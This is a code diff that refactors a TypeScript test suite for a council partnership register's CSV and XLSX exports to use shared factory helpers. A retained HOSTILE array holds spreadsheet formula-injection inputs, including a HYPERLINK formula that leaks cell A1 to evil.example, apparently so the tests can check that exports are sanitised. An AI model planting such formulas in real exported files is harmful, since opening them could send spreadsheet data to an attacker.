@@ -12,36 +12,19 @@ import { createPerson } from '../../src/app/people.service.ts';
 import { registerCsv, registerXlsx } from '../../src/app/register-export.ts';
 import { searchRegister, type RegisterRow } from '../../src/db/repositories/register.repo.ts';
 import type { PartnershipDetails } from '../../src/domain/register/partnership.ts';
-import type { OrganisationDetails } from '../../src/domain/register/records.ts';
 import { parseRegisterQuery, type RegisterQuery } from '../../src/domain/register/register-query.ts';
 import { LEGAL_FORMS, LEGAL_FORM_LABELS, STATUSES, STATUS_LABELS } from '../../src/domain/register/vocabulary.ts';
 import { Client } from '../helpers/app.ts';
 import { startApp, type TestApp } from '../helpers/app.ts';
 import { TestClock } from '../helpers/clock.ts';
 import { forEachDatabase } from '../helpers/databases.ts';
-import { makeUser, signedIn } from '../helpers/factories.ts';
+import { makeUser, organisationDetails, partnershipDetails, personDetails, signedIn } from '../helpers/factories.ts';
 
 // 23:30 UTC on 31 March 2026 is already 1 April in London (BST): the file is named for the UK day.
 const NOW = '2026-03-31T23:30:00.000Z';
 const UK_DAY = '2026-04-01';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', '+44 1632 960000 helpline', '-5', '@SUM(A1:A9)'];
-
-function org(name: string, extra: Partial<OrganisationDetails> = {}): OrganisationDetails {
-  return {
-    name,
-    sector: 'public',
-    isThisCouncil: false,
-    companyNumber: null,
-    charityNumber: null,
-    address: null,
-    website: null,
-    contactName: null,
-    contactEmail: null,
-    contactPhone: null,
-    ...extra,
-  };
-}
 
 /** The register list's rows for a query, every page of them, as the list page would show them. */
 async function listRows(t: TestApp, params: Record<string, string | string[]>): Promise<RegisterRow[]> {
@@ -122,15 +105,15 @@ forEachDatabase('register exports', (ctx) => {
 
   before(async () => {
     t = await startApp(ctx.database, { clock });
-    const council = await createOrganisation(t.deps, SYSTEM, org('Test Borough Council', { isThisCouncil: true }));
-    const police = await createOrganisation(t.deps, SYSTEM, org('Wealdshire Police'));
-    const risky = await createOrganisation(t.deps, SYSTEM, org('@Risky Partners Ltd', { sector: 'private' }));
-    const cvs = await createOrganisation(t.deps, SYSTEM, org('Brackenford CVS, Ltd "the CVS"', { sector: 'vcse' }));
-    const officer = await createPerson(t.deps, SYSTEM, { name: 'Jo Officer', jobTitle: 'Head of Partnerships', organisationId: council.id, email: null, councilRole: 'officer', userId: null });
-    const dash = await createPerson(t.deps, SYSTEM, { name: '-Sam Dash', jobTitle: null, organisationId: council.id, email: null, councilRole: 'officer', userId: null });
+    const council = await createOrganisation(t.deps, SYSTEM, organisationDetails('Test Borough Council', { isThisCouncil: true }));
+    const police = await createOrganisation(t.deps, SYSTEM, organisationDetails('Wealdshire Police'));
+    const risky = await createOrganisation(t.deps, SYSTEM, organisationDetails('@Risky Partners Ltd', { sector: 'private' }));
+    const cvs = await createOrganisation(t.deps, SYSTEM, organisationDetails('Brackenford CVS, Ltd "the CVS"', { sector: 'vcse' }));
+    const officer = await createPerson(t.deps, SYSTEM, personDetails('Jo Officer', council.id, { jobTitle: 'Head of Partnerships', councilRole: 'officer' }));
+    const dash = await createPerson(t.deps, SYSTEM, personDetails('-Sam Dash', council.id, { councilRole: 'officer' }));
     officerId = officer.id;
 
-    const base = (i: number): PartnershipDetails => ({
+    const base = (i: number): PartnershipDetails => partnershipDetails({
       name: `Partnership ${String(i).padStart(2, '0')}`,
       purpose: `Purpose of partnership ${i}`,
       expectedOutcomes: 'Better outcomes',
@@ -140,12 +123,8 @@ forEachDatabase('register exports', (ctx) => {
       status: STATUSES[i % 6]!,
       startDate: i % 4 === 0 ? null : `20${String(10 + (i % 15)).padStart(2, '0')}-0${1 + (i % 9)}-1${i % 10}`,
       expectedEndDate: i % 3 === 0 ? `2035-12-31` : null,
-      durationDescription: null,
       councilContributionPence: i % 5 === 0 ? null : i * 1_234_567 + (i % 2 ? 50 : 0),
       withinApprovedBudget: i % 5 === 0 ? null : i % 2 === 0,
-      resourcesStaff: null,
-      resourcesAssets: null,
-      resourcesInKind: null,
       sponsoringOfficerId: i % 2 ? officer.id : null,
       accountableOfficerId: i % 3 ? dash.id : null,
       partners:
@@ -159,8 +138,6 @@ forEachDatabase('register exports', (ctx) => {
               { organisationId: cvs.id, role: 'associate', memberStatus: 'observer' },
               { organisationId: council.id, role: 'member', memberStatus: 'voting' },
             ],
-      representatives: [],
-      priorities: [],
     });
     // 30 ordinary partnerships: more than one page of the list (25 a page).
     for (let i = 1; i <= 30; i++) await createPartnership(t.deps, SYSTEM, base(i));
